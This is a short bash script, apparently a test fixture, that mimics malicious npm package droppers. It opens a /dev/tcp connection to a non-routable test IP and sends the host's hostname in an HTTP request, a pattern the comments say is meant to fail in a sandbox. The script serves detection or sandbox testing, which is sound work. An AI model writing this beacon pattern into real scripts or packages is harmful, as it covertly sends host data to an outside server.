#!/bin/bash
# P6 in plain shell: a direct TCP connection to a raw IP (198.51.100.23, TEST-NET-2: goes nowhere),
# as the axios/plain-crypto-js and ua-parser-js droppers did. In the sandbox it fails: no route.
exec 3<>/dev/tcp/198.51.100.23/80 2>/dev/null || exit 0
printf 'GET /b?h=%s HTTP/1.0\r\n\r\n' "$(hostname)" >&3
exit 0
